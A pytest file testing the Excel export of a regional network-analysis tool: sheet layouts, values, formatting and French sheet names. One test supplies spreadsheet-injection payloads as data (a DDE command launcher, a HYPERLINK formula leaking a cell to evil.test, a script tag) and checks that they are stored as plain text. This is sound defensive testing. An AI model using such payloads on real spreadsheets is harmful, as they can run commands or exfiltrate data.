"""XLSX: the workbook reopened with openpyxl, cell by cell."""

import io

from openpyxl import load_workbook

from maillage.reports import render


def workbook(kind, data):
    return load_workbook(io.BytesIO(render(kind, data, "xlsx")))


def values(sheet):
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_report_workbook_sheets_and_network(report):
    book = workbook("report", report)
    assert book.sheetnames == ["network", "actors", "sector_mixing", "sectors", "method"]
    network = values(book["network"])
    assert network[0] == ["indicator", "label", "value"]
    assert network[1:5] == [
        ["territory", "Territory", "Pays de Morlaix"],
        ["as_of", "As of", "2024-06-30"],
        ["variant", "Variant", "unweighted"],
        ["approximate", "Approximate", False],
    ]
    assert ["density", "Density", 0.25] in network
    assert ["assortativity", "Sector assortativity", 0.0233] in network
    assert book.properties.title == "Maillage report: Pays de Morlaix"


def test_report_actors_sheet(report):
    sheet = workbook("report", report)["actors"]
    rows = values(sheet)
    assert rows[0][:6] == ["id", "name", "sector", "community", "degree", "betweenness"]
    assert rows[0][-5:] == [
        "brokerage_coordinator",
        "brokerage_itinerant",
        "brokerage_gatekeeper",
        "brokerage_representative",
        "brokerage_liaison",
    ]
    assert len(rows) == 10
    assert rows[1] == ["a1", "Mairie de Morlaix", "public", 0, 5, 0.7143, 0.7778, 0.6035,
                       0.2583, 0.3622, 4.2, 1.0, 0, 0, 0, 0, 16]  # fmt: skip
    assert rows[9][9:12] == [None, None, None]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:Q10"
    assert all(c.font.b for c in sheet[1])
    assert sheet["A1"].fill.fgColor.rgb.endswith("DCE6F1")
    assert sheet.column_dimensions["B"].width >= len("Université de Bretagne Occidentale")


def test_report_mixing_and_sectors_sheets(report):
    book = workbook("report", report)
    mixing = values(book["sector_mixing"])
    assert mixing[0] == ["sector_a", "sector_b", "observed", "expected", "z"]
    assert len(mixing) == 1 + 21
    assert ["association", "business", 0, 1.33, -1.49] in mixing
    assert ["media", "media", 0, 0.0, None] in mixing
    sectors = values(book["sectors"])
    assert sectors[:3] == [
        ["sector", "actors", "ei_index"],
        ["business", 3, 0.2],
        ["association", 2, 0.3333],
    ]
    assert book["sectors"].freeze_panes == "B2"
    method = values(book["method"])
    assert ["seed", 42] in method
    assert sum(1 for row in method if row[0] == "reference") == 2


def test_formulas_are_stored_as_neutralised_text(hostile_report):
    sheet = workbook("report", hostile_report)["actors"]
    assert sheet["A2"].value == "'@cmd|' /C calc'!A0"
    formula = sheet["B4"]
    assert formula.value == '\'=HYPERLINK("http://evil.test/?leak="&A1,"Click me")'
    assert formula.data_type == "s"
    assert sheet["B2"].value == "<script>alert(1)</script>"
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    ei = sheet.cell(row=8, column=12)
    assert (ei.value, ei.data_type) == (-1.0, "n")


def test_gaps_workbook(gaps):
    book = workbook("gaps", gaps)
    assert book.sheetnames == [
        "gaps",
        "introductions",
        "observed",
        "expected",
        "z",
        "fragile_bridges",
        "method",
    ]
    gap_rows = values(book["gaps"])
    assert gap_rows[0] == [
        "sector_a",
        "sector_b",
        "observed",
        "expected",
        "z",
        "fragile",
        "bridges",
    ]
    assert gap_rows[2] == ["business", "funder", 0, 0.67, -0.88, True, "Mairie de Morlaix"]
    intros = values(book["introductions"])
    assert intros[0] == ["rank", "source_id", "source_name", "source_sector", "target_id",
                         "target_name", "target_sector", "score", "distance",
                         "shared_partners", "reason"]  # fmt: skip
    assert intros[1][:9] == [1, "a3", "Coopérative Ti Kafe", "business", "a4",
                             "Association Ener'gence", "association", 0.82, 2]  # fmt: skip
    observed = values(book["observed"])
    assert observed[0] == [
        "sector",
        "academic",
        "association",
        "business",
        "funder",
        "media",
        "public",
    ]
    assert observed[6] == ["public", 1, 1, 1, 1, 1, 0]
    assert values(book["z"])[5][5] is None
    assert book["observed"].freeze_panes == "B2"
    assert values(book["fragile_bridges"])[0] == ["id", "name", "type", "sector", "disconnects"]
    assert values(book["fragile_bridges"])[1] == [
        "a1",
        "Mairie de Morlaix",
        "actor",
        "public",
        "business–funder",
    ]


def test_compare_workbook(compare):
    book = workbook("compare", compare)
    assert book.sheetnames == ["summary", "indicators", "shares", "rates", "method"]
    rows = values(book["indicators"])
    assert rows[2][:7] == [
        "density",
        "Density",
        0.25,
        0.061,
        1.0,
        0.71,
        "Share of possible ties that exist",
    ]
    assert rows[4][3] is None
    rates = values(book["rates"])
    assert rates[0] == ["from", "to", "pair", "territory", "actors", "tied", "share", "low", "high"]
    assert rates[1] == [
        "business",
        "association",
        "businesses → associations",
        "Pays de Morlaix",
        3,
        1,
        0.333333,
        0.061492,
        0.79234,
    ]


def test_bridges_workbook(bridges):
    book = workbook("bridges", bridges)
    E = None
    assert values(book["bridges"])[1:] == [
        ["gained", "actor", "a3", "Coopérative Ti Kafe", "business", E, E, E, E, E, E,
         "academic–business"],
        ["gained", "tie", E, E, E, "a1", "Mairie de Morlaix", "public", "a3",
         "Coopérative Ti Kafe", "business", "business–public; academic–public"],
        ["lost", "actor", "a5", "Le Télégramme", "media", E, E, E, E, E, E, "association–media"],
    ]  # fmt: skip
    assert values(book["period"]) == [
        ["key", "value"],
        ["since", "2023-01-01"],
        ["until", "2024-06-30"],
    ]


def test_control_characters_do_not_break_the_workbook(report):
    report["actors"][0]["name"] = "Mairie\x00 de\x1b Morlaix\x0b"
    assert workbook("report", report)["actors"]["B2"].value == "Mairie de Morlaix"


def test_a_french_report_workbook_names_its_sheets_and_heads_in_french(report):
    book = load_workbook(io.BytesIO(render("report", report, "xlsx", lang="fr")))
    assert book.sheetnames == ["réseau", "acteurs", "mixité des secteurs", "secteurs", "méthode"]
    network = values(book["réseau"])
    assert network[0] == ["Indicateur", "Libellé", "Valeur"]
    assert network[1:3] == [
        ["territory", "Territoire", "Pays de Morlaix"],
        ["as_of", "À la date du", "2024-06-30"],
    ]
    assert ["density", "Densité", 0.25] in network
    actors = values(book["acteurs"])
    assert actors[0][:3] == ["Identifiant", "Nom", "Secteur"]
    assert actors[1][:3] == ["a1", "Mairie de Morlaix", "public"]  # the data's keys stay
    assert values(book["secteurs"])[0][:2] == ["Secteur", "Acteurs"]
    assert book.properties.title == "Rapport Maillage\u202f: Pays de Morlaix"
    english = load_workbook(io.BytesIO(render("report", report, "xlsx")))
    assert english.sheetnames == ["network", "actors", "sector_mixing", "sectors", "method"]
